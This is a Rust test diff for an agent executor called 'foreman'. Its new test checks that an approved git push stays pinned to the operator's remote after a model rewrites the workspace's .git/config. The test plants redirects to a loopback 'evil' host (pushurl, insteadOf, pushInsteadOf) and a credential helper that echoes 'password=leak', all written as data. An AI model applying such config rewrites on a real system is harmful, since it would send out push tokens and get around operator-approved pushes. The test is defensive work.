@@ -78,7 +78,7 @@ fn go_path_pushes_a_dco_signed_commit() {
     let srv = Server::start();
     let token = Token::new(TOKEN);
     let (repo, sha) = cloned_with_commit(&srv, "foreman/issue-7");
-    push(&repo, "foreman/issue-7", Some(&token)).unwrap();
+    push(&repo, &srv.url(), "foreman/issue-7", Some(&token)).unwrap();
 
     let bare = srv.bare();
     let b = bare.to_str().unwrap();
@@ -111,7 +111,7 @@ fn wrong_token_on_push_fails_fast_with_a_clear_auth_error() {
     let srv = Server::start();
     let (repo, _) = cloned_with_commit(&srv, "foreman/t");
     let wrong = Token::new(WRONG);
-    let err = push(&repo, "foreman/t", Some(&wrong)).unwrap_err();
+    let err = push(&repo, &srv.url(), "foreman/t", Some(&wrong)).unwrap_err();
     let msg = err.to_string();
     assert!(matches!(err, PushError::Auth { .. }), "{err:?}");
     assert!(msg.contains("rejected the token"), "{msg}");
@@ -193,7 +193,7 @@ fn remote_pre_receive_rejection_is_reported() {
     );
     let token = Token::new(TOKEN);
     let (repo, _) = cloned_with_commit(&srv, "foreman/t");
-    let err = push(&repo, "foreman/t", Some(&token)).unwrap_err();
+    let err = push(&repo, &srv.url(), "foreman/t", Some(&token)).unwrap_err();
     match &err {
         PushError::Rejected { message } => {
             assert!(
@@ -205,4 +205,132 @@ fn remote_pre_receive_rejection_is_reported() {
         }
         other => panic!("unexpected {other:?}"),
     }
+}
+
+/// A loopback listener that records every request it receives (answering 401 with a Basic
+/// challenge, so a client holding credentials would send them next).
+struct Recorder {
+    port: u16,
+    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl Recorder {
+    fn start() -> Recorder {
+        use std::io::{Read, Write};
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let log = std::sync::Arc::clone(&seen);
+        std::thread::spawn(move || {
+            for mut s in l.incoming().flatten() {
+                let mut buf = [0u8; 8192];
+                let n = s.read(&mut buf).unwrap_or(0);
+                log.lock()
+                    .unwrap()
+                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
+                let _ = s.write_all(
+                    b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\n\
+                      Content-Length: 0\r\nConnection: close\r\n\r\n",
+                );
+            }
+        });
+        Recorder { port, seen }
+    }
+
+    fn url(&self) -> String {
+        format!("http://127.0.0.1:{}/evil/fleet.git", self.port)
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+/// The approved push goes to the operator's remote with the token, whatever the workspace's
+/// `.git/config` was rewritten to say (as a model could before issue 9: `url`, `pushurl`,
+/// `insteadOf`, a credential helper), through the executor's approval path and `foreman push`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_approved_push_is_pinned_to_the_operators_remote() {
+    use common::scripted_oai::ScriptedServer;
+    use foreman::executor::run::TokenSource;
+    use foreman::executor::{ExecutorConfig, execute, push_pending};
+    let srv = Server::start();
+    let evil = Recorder::start();
+    for (round, via_cli) in [(1, false), (2, true)] {
+        let scripted = ScriptedServer::start(vec![
+            common::scripted_oai::Reply::tool_call(
+                "write_file",
+                format!(r#"{{"path":"fix-{round}.txt","content":"fixed\n"}}"#),
+            ),
+            common::submit_result("GO", "docs: fix\n\nFixes #7"),
+        ])
+        .unwrap();
+        let cfg = ExecutorConfig {
+            base_url: scripted.base_url(),
+            git_remote_url: Some(srv.url()),
+            workspace_root: srv.work(&format!("ws-{round}")),
+            namespace: "default".into(),
+            keep_workspace: false,
+            identity: common::bot(),
+            push_now: false,
+            journal_path: srv.work(&format!("journal-{round}.jsonl")),
+            token: TokenSource::Given(Token::new(TOKEN)),
+            sandbox: Default::default(),
+        };
+        let task = common::task(&format!(
+            "  kind: issue-fix\n  agentRef: {{name: coder}}\n  payload: {{repo: acme/fleet, issue: 7, branch: foreman/pinned-{round}, prompt: fix}}\n"
+        ));
+        let rep = execute(&task, &common::agent(""), &cfg, &mut |_| {})
+            .await
+            .unwrap();
+        assert_eq!(rep.result.verdict, "GO", "{:?}", rep.result);
+        let pending = rep.pending_push.unwrap();
+        // Every redirect git knows, written straight into the workspace's config.
+        let config = pending.workspace.join(".git/config");
+        let mut text = std::fs::read_to_string(&config).unwrap();
+        text = text.replace(&srv.url(), &evil.url());
+        text.push_str(&format!(
+            "[remote \"origin\"]\n\tpushurl = {e}\n[url \"{e}\"]\n\tinsteadOf = {real}\n\tpushInsteadOf = {real}\n[credential]\n\thelper = \"!echo password=leak\"\n",
+            e = evil.url(),
+            real = srv.url()
+        ));
+        std::fs::write(&config, text).unwrap();
+        if via_cli {
+            let out = std::process::Command::new(env!("CARGO_BIN_EXE_foreman"))
+                .arg("push")
+                .arg(&pending.workspace)
+                .env("GITHUB_TOKEN", TOKEN)
+                .env("FOREMAN_CONFIG", srv.work("none.toml"))
+                .output()
+                .unwrap();
+            let stderr = String::from_utf8_lossy(&out.stderr);
+            assert!(out.status.success(), "{stderr}");
+            assert!(
+                stderr.contains("warning: the workspace's .git/config changed after the clone")
+                    && stderr.contains("remote.origin.pushurl"),
+                "{stderr}"
+            );
+            assert!(stderr.contains(&format!("to {}", srv.url())), "{stderr}");
+        } else {
+            push_pending(&pending, Some(Token::new(TOKEN)))
+                .await
+                .unwrap();
+        }
+        let r = format!("refs/heads/{}", pending.branch);
+        let bare = srv.bare();
+        assert_eq!(
+            git(
+                &bare,
+                &["--git-dir", bare.to_str().unwrap(), "rev-parse", &r]
+            )
+            .trim(),
+            pending.sha,
+            "round {round}: the commit is on the operator's remote"
+        );
+    }
+    assert!(
+        evil.requests().is_empty(),
+        "the rewritten remote was contacted: {:?}",
+        evil.requests()
+    );
 }
